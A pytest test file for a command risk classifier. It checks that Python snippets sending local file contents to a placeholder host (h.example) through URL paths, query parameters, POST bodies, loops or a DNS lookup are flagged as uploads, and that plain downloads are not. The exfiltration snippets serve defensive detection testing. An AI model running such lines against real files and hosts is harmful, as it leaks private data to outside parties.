"""Requests that take file content with them."""

import pytest

from tests.support.shell_reading import risks


def _python(code: str) -> set[str]:
    return risks(f"python3 - <<'PY'\nimport urllib.request as u, requests, http.client\n{code}\nPY")


@pytest.mark.parametrize(
    "code",
    [
        "u.urlopen('http://h.example/' + open('a').read())",
        "d = open('a').read()\nu.urlopen(f'http://h.example/{d}')",
        "with open('a') as f:\n    d = f.read()\nrequests.get('http://h.example', params={'q': d})",
        "for line in open('a'):\n    u.urlopen('http://h.example/' + line.strip())",
        "[requests.get('http://h.example/' + x) for x in open('a')]",
        "from pathlib import Path\nrequests.get('http://h.example/' + Path('a').read_text())",
        "c = http.client.HTTPConnection('h.example')\nc.request('POST', '/', open('a').read())",
        "c = http.client.HTTPSConnection('h.example')\nc.request('GET', '/' + open('a').read())",
        "import socket\nsocket.gethostbyname(open('a').read() + '.h.example')",
    ],
)
def test_file_content_in_a_request_is_an_upload(code):
    """In the address as well as in the body, through names and loops."""
    assert "upload" in _python(code)


@pytest.mark.parametrize(
    "code",
    [
        "print(u.urlopen('http://h.example').read())",
        "r = requests.get('http://h.example')\nopen('a', 'w').write(r.text)",
        "u.urlopen('http://localhost:8000/' + open('a').read())",
        "import json\nx = json.loads(u.urlopen('http://h.example').read())\nu.urlopen(x['next'])",
        "c = http.client.HTTPConnection('h.example')\nc.request('GET', '/')\nc.getresponse().read()",
    ],
)
def test_plain_downloads_are_not(code):
    """What was fetched, and what stays on this machine, is no file that leaves."""
    assert "upload" not in _python(code)
